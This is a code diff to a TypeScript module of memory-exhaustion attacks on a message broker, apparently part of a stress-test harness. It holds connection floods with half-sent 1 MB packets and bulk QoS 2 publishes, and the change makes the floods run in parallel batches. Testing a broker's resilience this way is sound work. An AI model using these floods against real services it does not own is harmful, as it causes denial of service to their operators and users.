@@ -37,7 +37,11 @@ export const memoryAttacks: readonly Attack[] = [
     many: 2000,
     async run(target, times) {
       const half = unfinished(bytesOf(publishPacket(1, "x".repeat(megabyte), { topic: ownTopic(target) })));
-      for (let i = 0; i < times; i++) (await openDevice(target, `half-${i}`)).write(half);
+      // Side by side: a device that has its connections waits for the answer that it may have no more.
+      for (let from = 0; from < times; from += 50) {
+        const some = Array.from({ length: Math.min(50, times - from) }, (_, i) => `half-${from + i}`);
+        await Promise.all(some.map(async (id) => (await openDevice(target, id)).write(half)));
+      }
       await Bun.sleep(holdMs);
       return times;
     },
@@ -55,7 +59,8 @@ export const memoryAttacks: readonly Attack[] = [
       for (let i = 1; i <= times; i++) {
         if (device.destroyed) break;
         const packet = bytesOf(publishPacket(i, "x".repeat(megabyte), { qos: 2, topic: ownTopic(target) }));
-        if (!device.write(packet)) await new Promise((done) => device.once("drain", done));
+        if (!device.write(packet))
+          await new Promise((done) => device.once("drain", done).once("close", done));
       }
       await Bun.sleep(holdMs);
       return times;
